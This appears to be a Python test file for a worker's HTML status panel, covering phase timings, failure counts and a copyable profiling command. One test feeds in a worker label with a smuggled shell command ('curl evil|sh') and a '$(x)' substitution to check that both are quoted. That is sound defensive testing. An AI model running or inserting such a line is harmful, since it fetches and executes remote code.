"""The panel of one worker, drawn from numbers."""

from page_views import page_html, run_view, snapshot, worker_view


def panel(worker):
    """The panel of the worker, as HTML."""
    html = page_html(snapshot(run_view(worker, run="r $(x)")), worker=worker.worker)
    return html.partition('data-section="detail"')[2].partition("</section>")[0]


def test_rest_of_a_stalled_workers_time_belongs_to_its_present_phase():
    phases = panel(worker_view(stuck_seconds=60.0, progress_age_seconds=60.0)).partition("Its time by phase")[2]
    assert "environment<b>100 %</b>" in phases
    assert "other" not in phases


def test_rest_of_a_running_workers_time_is_other():
    phases = panel(worker_view()).partition("Its time by phase")[2]
    assert "environment<b>25 %</b>" in phases
    assert "other<b>75 %</b>" in phases


def test_command_to_copy_quotes_labels():
    html = panel(worker_view("0; curl evil|sh #", pid=7))
    assert "raymon profile --run &#x27;r $(x)&#x27; --worker &#x27;0; curl evil|sh #&#x27;" in html


def test_failed_rollouts_are_listed_by_class():
    html = panel(worker_view(failures={"TypeError": 23.0}, failures_total=230.0, rollouts_total=7.0))
    assert "<code>TypeError</code> 23/s" in html
    assert "230 rollouts failed since its process started, 7 succeeded." in html
